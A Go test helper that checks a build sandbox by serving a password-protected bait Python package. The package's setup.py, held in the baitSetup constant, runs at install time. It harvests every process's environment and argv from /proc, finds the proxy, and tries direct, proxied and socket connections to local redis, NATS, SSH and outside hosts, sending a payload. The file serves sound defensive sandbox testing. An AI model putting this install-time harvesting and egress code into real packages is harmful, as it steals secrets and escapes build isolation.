package sandboxtest

import (
	"archive/tar"
	"bufio"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/nats-io/nats-server/v2/server"

	"github.com/autocoder/autocoder/internal/testredis"
	"github.com/autocoder/autocoder/internal/trim"
)

// Bait is what an environment build must not reach or read: a loopback
// listener, a real redis-server and an embedded NATS server on the host,
// and the password of the package index. The index (on the host's
// loopback, with Basic auth) serves one package, Package, a source
// distribution whose setup.py tries every way out: direct connections, the
// build's proxy (found in its parent's argv), the egress socket, each to
// every bait; and writes what it saw (its environment and argv, every
// visible process's) to SeenFile in the first of /opt/venv, /usr/local it
// can write.
type Bait struct {
	Package  string
	Secret   string
	IndexURL string // with user:Secret@

	loopback net.Listener
	hits     atomic.Int64
	redis    *testredis.Server
	nats     *server.Server
	redisCon int
}

// SeenFile is the name of the file the bait package's build code writes.
const SeenFile = "autocoder-seen.txt"

// NewBait starts the bait servers and the index, stopped when t ends.
func NewBait(t *testing.T) *Bait {
	t.Helper()
	b := &Bait{Package: "egressbait-" + token(t)[7:15], Secret: "s3cr3t-" + token(t)[7:19]}
	var err error
	if b.loopback, err = net.Listen("tcp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { b.loopback.Close() })
	go func() {
		for {
			c, err := b.loopback.Accept()
			if err != nil {
				return
			}
			b.hits.Add(1)
			c.Close()
		}
	}()
	b.redis = testredis.StartServer(t)
	b.redisCon = b.redisConnections(t)
	b.nats, err = server.NewServer(&server.Options{Host: "127.0.0.1", Port: -1, NoLog: true, NoSigs: true})
	if err != nil {
		t.Fatal(err)
	}
	go b.nats.Start()
	t.Cleanup(b.nats.Shutdown)
	if !b.nats.ReadyForConnections(10 * time.Second) {
		t.Fatal("nats server not ready")
	}
	index := httptest.NewServer(b.index(t))
	t.Cleanup(index.Close)
	b.IndexURL = strings.Replace(index.URL, "http://", "http://user:"+b.Secret+"@", 1) + "/simple/"
	return b
}

// targets are the host:ports the build code tries.
func (b *Bait) targets() []string {
	_, redisPort, _ := net.SplitHostPort(b.redis.Addr())
	return []string{b.loopback.Addr().String(), b.redis.Addr(), b.nats.Addr().String(),
		"localhost:" + redisPort, "127.0.0.1:22", "example.com:443", "10.0.0.1:80"}
}

// index serves the bait package as a PEP 503 index that wants Basic auth.
func (b *Bait) index(t *testing.T) http.Handler {
	sdist := b.sdist(t)
	file := b.Package + "-1.0.tar.gz"
	sum := sha256.Sum256(sdist)
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if u, pw, ok := r.BasicAuth(); !ok || u != "user" || pw != b.Secret {
			w.Header().Set("WWW-Authenticate", `Basic realm="test"`)
			http.Error(w, "unauthorized", http.StatusUnauthorized)
			return
		}
		switch r.URL.Path {
		case "/simple/" + b.Package + "/":
			fmt.Fprintf(w, `<html><body><a href="../../files/%s#sha256=%s">%s</a></body></html>`, file, hex.EncodeToString(sum[:]), file)
		case "/files/" + file:
			w.Write(sdist)
		default:
			http.NotFound(w, r)
		}
	})
}

// sdist is the bait package's source distribution.
func (b *Bait) sdist(t *testing.T) []byte {
	var targets []string
	for _, tg := range b.targets() {
		h, p, _ := net.SplitHostPort(tg)
		targets = append(targets, fmt.Sprintf("(%q, %s)", h, p))
	}
	setup := strings.ReplaceAll(baitSetup, "BAIT_TARGETS", "["+strings.Join(targets, ", ")+"]") +
		"\nfrom setuptools import setup\nsetup(name='" + b.Package + "', version='1.0', py_modules=[])\n"
	files := map[string]string{"setup.py": setup, "PKG-INFO": "Metadata-Version: 2.1\nName: " + b.Package + "\nVersion: 1.0\n"}
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for name, body := range files {
		if err := tw.WriteHeader(&tar.Header{Name: b.Package + "-1.0/" + name, Mode: 0o644, Size: int64(len(body))}); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(body))
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// baitSetup is the hostile part of the bait's setup.py.
const baitSetup = `
import glob, os, re, socket, sys
TARGETS = BAIT_TARGETS
PAYLOAD = b"SET autocoder-pwned 1\r\nCONNECT {}\r\nPUB pwned 2\r\nhi\r\nGET / HTTP/1.0\r\n\r\n"
seen = ["argv=%r" % (sys.argv,), "env=%r" % (dict(os.environ),)]
for kind in ("cmdline", "environ"):
    for p in glob.glob("/proc/[0-9]*/" + kind):
        try:
            seen.append("%s=%r" % (p, open(p, "rb").read()))
        except OSError:
            pass
proxies = set(re.findall(r"http://127\.0\.0\.1:\d+", "\n".join(seen)))
report = []

def attempt(label, connect, tunnel_to=None):
    try:
        s = connect()
        s.settimeout(5)
        if tunnel_to:
            s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (tunnel_to, tunnel_to)).encode())
            answer = s.recv(4096).decode("latin-1")
            report.append("%s: %s" % (label, answer.splitlines()[0] if answer else "closed"))
            if " 200 " not in answer:
                return
        s.sendall(PAYLOAD)
        report.append("%s: CONNECTED" % label)
        s.close()
    except Exception as e:
        report.append("%s: %s" % (label, e))

def unix():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("/run/autocoder-egress.sock")
    return s

for host, port in TARGETS:
    target = "%s:%d" % (host, port)
    attempt("direct " + target, lambda: socket.create_connection((host, port), timeout=3))
    attempt("socket " + target, unix, target)
    for proxy in proxies:
        ph, pp = proxy[len("http://"):].split(":")
        attempt("proxy %s %s" % (proxy, target), lambda: socket.create_connection((ph, int(pp)), timeout=3), target)
seen.append("report=%r" % (report,))
print("\n".join(report), file=sys.stderr)
for d in ("/opt/venv", "/usr/local"):
    try:
        with open(os.path.join(d, "` + SeenFile + `"), "w") as f:
            f.write("\n".join(seen))
        break
    except OSError:
        pass
`

// Check fails t if the build reached any bait, or if seen (the SeenFile
// the build code wrote) is missing or holds the secret.
func (b *Bait) Check(t *testing.T, seen string) {
	t.Helper()
	if !strings.Contains(seen, "report=") {
		t.Errorf("the build code wrote no %s (it did not run?): %q", SeenFile, trim.Tail(seen, 2000))
	}
	if strings.Contains(seen, "CONNECTED") {
		t.Errorf("the build code connected somewhere: %s", reportOf(seen))
	}
	b.NoSecret(t, "what the build code saw", seen)
	if n := b.hits.Load(); n != 0 {
		t.Errorf("the loopback listener got %d connections from the build", n)
	}
	if n := b.nats.NumClients(); n != 0 {
		t.Errorf("the NATS server has %d clients", n)
	}
	if v, err := b.nats.Varz(nil); err != nil {
		t.Errorf("NATS varz: %v", err)
	} else if v.TotalConnections != 0 {
		t.Errorf("the NATS server got %d connections", v.TotalConnections)
	}
	if got := b.redisConnections(t); got != b.redisCon+1 { // +1: the one counting
		t.Errorf("redis-server got %d connections during the build, want none", got-b.redisCon-1)
	}
}

// NoSecret fails t if data holds the index password.
func (b *Bait) NoSecret(t *testing.T, what, data string) {
	t.Helper()
	if i := strings.Index(data, b.Secret); i >= 0 {
		t.Errorf("%s holds the index password: ...%s...", what, data[max(0, i-200):min(len(data), i+100)])
	}
}

func reportOf(seen string) string {
	if _, r, ok := strings.Cut(seen, "report="); ok {
		return r
	}
	return seen
}

// redisConnections is redis-server's total_connections_received, read on
// a connection of its own (counted too).
func (b *Bait) redisConnections(t *testing.T) int {
	t.Helper()
	c, err := net.DialTimeout("tcp", b.redis.Addr(), 5*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	fmt.Fprintf(c, "EXISTS autocoder-pwned\r\nINFO stats\r\n")
	r := bufio.NewReader(c)
	line, _ := r.ReadString('\n')
	if strings.TrimSpace(line) != ":0" {
		t.Errorf("redis: EXISTS autocoder-pwned = %q: the build wrote to redis", strings.TrimSpace(line))
	}
	for {
		line, err := r.ReadString('\n')
		if err != nil {
			t.Fatalf("redis INFO: %v", err)
		}
		if v, ok := strings.CutPrefix(strings.TrimSpace(line), "total_connections_received:"); ok {
			n, _ := strconv.Atoi(v)
			return n
		}
	}
}
